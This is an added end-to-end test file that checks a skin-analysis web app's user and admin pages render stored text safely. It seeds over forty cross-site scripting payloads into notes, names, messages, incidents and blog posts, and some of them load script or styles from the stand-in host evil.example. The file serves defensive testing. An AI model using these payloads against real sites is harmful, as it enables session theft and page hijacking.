@@ -1,0 +1,202 @@
+import type { Page } from 'playwright-core';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { activateDemo, makeAdmin, registerUser, startTestSite, type TestSite } from './site/journey';
+import { buildImageData, sendAnalysis } from './site/sendAnalysis';
+
+jest.setTimeout(300_000);
+
+/** The longest wait for a text. */
+const TIMEOUT_MS = 10_000;
+
+/** Texts that run `ran()` where a page takes them for HTML, an address, a style or a template. */
+const SCRIPTS = [
+  '<script>ran()</script>',
+  '<ScRiPt>ran()</sCrIpT>',
+  '<script src=//evil.example/x.js></script>',
+  '</title><script>ran()</script>',
+  '</textarea><script>ran()</script>',
+  '</script><script>ran()</script>',
+  '--><script>ran()</script>',
+  ']]><script>ran()</script>',
+  '<img src=x onerror=ran()>',
+  '<img src=x onerror="ran()"',
+  '<img/src=x/onerror=ran()>',
+  '"><img src=x onerror=ran()>',
+  "'><img src=x onerror=ran()>",
+  '`"\'><img src=x onerror=ran()>',
+  '<svg onload=ran()>',
+  '<svg><script>ran()</script></svg>',
+  '<svg><animate onbegin=ran() attributeName=x>',
+  '<math><mi xlink:href=javascript:ran()>x</mi>',
+  '<body onload=ran()>',
+  '<iframe src=javascript:ran()></iframe>',
+  '<iframe srcdoc="<script>ran()</script>">',
+  '<object data=javascript:ran()></object>',
+  '<embed src=javascript:ran()>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content=0;url=//evil.example>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<a href=javascript:ran()>a</a>',
+  '<form action=javascript:ran()><button>a</button>',
+  '<button formaction=javascript:ran()>a</button>',
+  '<details open ontoggle=ran()>',
+  '<video><source onerror=ran()></video>',
+  '<audio src=x onerror=ran()>',
+  '<input autofocus onfocus=ran()>',
+  '<marquee onstart=ran()>',
+  'javascript:ran()',
+  '[a](javascript:ran())',
+  '![a](javascript:ran())',
+  '<javascript:ran()>',
+  '[a](data:text/html,<script>ran()</script>)',
+  '{{constructor.constructor("ran()")()}}',
+  '${ran()}',
+  '&lt;script&gt;ran()&lt;/script&gt;',
+  '\u003cimg src=x onerror=ran()\u003e',
+] as const;
+
+/** Packs all scripts into texts of at most `max` characters. */
+function packScripts(max: number): string[] {
+  const texts: string[] = [];
+  for (const script of SCRIPTS) {
+    const text = `${texts.at(-1) ?? ''} ${script}`.trim();
+    if (texts.length > 0 && text.length <= max) texts[texts.length - 1] = text;
+    else texts.push(script);
+  }
+  return texts;
+}
+
+let site: TestSite;
+let admin: Page;
+beforeAll(async () => {
+  site = await startTestSite();
+  // Without the content security policy, so that the pages alone must keep the scripts from running.
+  admin = await site.openPage({ bypassCSP: true });
+  admin.on('dialog', (dialog) => void dialog.dismiss());
+  await admin.addInitScript(() => Object.assign(window, { ran: () => Object.assign(window, { hasRun: true }) }));
+  await registerUser(admin, 'scripts@example.org');
+  await activateDemo(admin);
+  await makeAdmin(site, 'scripts@example.org');
+});
+afterAll(async () => site.close());
+
+/** Sends a call of the site with the administrator's session. */
+async function send(method: 'post' | 'patch', path: string, data: object): Promise<{ id: string }> {
+  const response = await admin.request[method](path, { data });
+  if (!response.ok()) throw new Error(`${method} ${path}: ${response.status()} ${await response.text()}`);
+  return (await response.json()) as { id: string };
+}
+
+/** Lists what became an element, a handler or an address, and whether it ran. */
+function findInjections(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const injected = document.querySelectorAll(
+      'body script:not([src^="/"]), body style, iframe, object, embed, base, math, marquee, meta[http-equiv=refresh], [srcdoc], link[href*="evil.example"]',
+    );
+    const issues = [...injected].map(({ outerHTML }) => outerHTML);
+    for (const element of document.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        const isAddress = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name);
+        if (name.startsWith('on') || (isAddress && /^\s*(javascript|vbscript|data:text)/i.test(value)))
+          issues.push(`${name}=${value}`);
+      }
+    }
+    return 'hasRun' in window ? [...issues, 'a script ran'] : issues;
+  });
+}
+
+/** Lists the texts that the page shows neither as text nor in a field. */
+function findHiddenTexts(page: Page, texts: readonly string[]): Promise<string[]> {
+  return page.evaluate((texts) => {
+    const fields = [...document.querySelectorAll('input, textarea')].map((field) => (field as HTMLInputElement).value);
+    const shown = [document.body.innerText, ...fields].join('\n').replace(/\s+/g, ' ');
+    return texts.filter((text) => !shown.includes(text));
+  }, texts);
+}
+
+/** Waits until each text is shown as it was sent. Lists those that are not, and what was injected. */
+async function findIssues(page: Page, texts: readonly string[]): Promise<string[]> {
+  const deadline = performance.now() + TIMEOUT_MS;
+  let hidden = await findHiddenTexts(page, texts);
+  while (hidden.length > 0 && performance.now() < deadline) {
+    await sleep(50);
+    hidden = await findHiddenTexts(page, texts);
+  }
+  return [...hidden.map((text) => `${page.url()} does not show ${text}`), ...(await findInjections(page))];
+}
+
+async function findIssuesAt(path: string, texts: readonly string[]): Promise<string[]> {
+  await admin.goto(path);
+  return findIssues(admin, texts);
+}
+
+test('forty scripts in each text that a person or an administrator stores are shown as text, and none runs', async () => {
+  expect(SCRIPTS.length).toBeGreaterThanOrEqual(40);
+  const issues: string[] = [];
+
+  // Notes and name of a spot.
+  const imageData = await buildImageData('phone-nevus-2.jpg');
+  const { id, lesionId } = await sendAnalysis(admin, { imageData });
+  for (const notes of packScripts(1900)) {
+    await send('patch', `/api/analyses/${id}`, { notes });
+    issues.push(...(await findIssuesAt('/history', [notes])));
+  }
+  for (const name of packScripts(60)) {
+    await send('patch', `/api/lesions/${lesionId}`, { name });
+    issues.push(...(await findIssuesAt('/history', [name])));
+  }
+
+  // The person's own name.
+  for (const firstName of packScripts(100)) {
+    await send('patch', '/api/account', { firstName });
+    issues.push(...(await findIssuesAt('/privacy', [firstName])));
+  }
+  issues.push(...(await findIssuesAt('/admin/customers', [packScripts(100).at(-1)!])));
+
+  // Allergies, in the form and in the plan.
+  const allergies = SCRIPTS.slice(0, 20);
+  await send('post', '/api/skincare/profile', {
+    ...{ skinType: 'normal', skinTone: 'medium', ageRange: '26-35', primaryConcerns: ['Dryness'], allergies },
+    ...{ sunExposure: 'moderate', pregnancy: null },
+  });
+  issues.push(...(await findIssuesAt('/skincare', allergies)));
+
+  // Messages.
+  for (const text of packScripts(100)) {
+    await send('post', '/api/contact', {
+      name: text,
+      email: 'a@example.org',
+      subject: text,
+      message: `${text} a message`,
+    });
+  }
+  issues.push(...(await findIssuesAt('/admin/inbox', packScripts(100))));
+
+  // Notes on an account, and incidents.
+  const { user } = (await (await admin.request.get('/api/auth/me')).json()) as { user: { id: string } };
+  for (const text of packScripts(1900)) {
+    await send('post', `/api/admin/accounts/${user.id}/notes`, { text });
+    issues.push(...(await findIssuesAt(`/admin/customers/${user.id}`, [text])));
+  }
+  for (const text of packScripts(100)) {
+    await send('post', '/api/admin/incidents', { incidentType: text, severity: 'low', description: text });
+  }
+  issues.push(...(await findIssuesAt('/admin/incidents', packScripts(100))));
+
+  // Articles: the list, the preview and the page that readers get.
+  for (const text of packScripts(100)) {
+    const post = { title: text, author: text, excerpt: text, content: text, category: 'Research' };
+    await send('post', '/api/blog/create', post);
+  }
+  issues.push(...(await findIssuesAt('/admin/blog?status=draft', packScripts(100))));
+  const [title, reviewerCredentials] = packScripts(100) as [string, string];
+  const content = ['# Sources', ...SCRIPTS.map((script) => `- ${script}`), '', ...SCRIPTS].join('\n');
+  const article = { title, author: title, excerpt: title, content, category: 'Research', status: 'pending_approval' };
+  const { id: articleId } = await send('post', '/api/blog/create', article);
+  const approval = { status: 'approved', reviewerName: title, reviewerCredentials };
+  await send('patch', `/api/blog/${articleId}/status`, approval);
+  issues.push(...(await findIssuesAt('/blog', [title])));
+  issues.push(...(await findIssuesAt(`/blog/${articleId.toLowerCase()}`, [title, reviewerCredentials, SCRIPTS[0]])));
+  expect(issues).toEqual([]);
+});
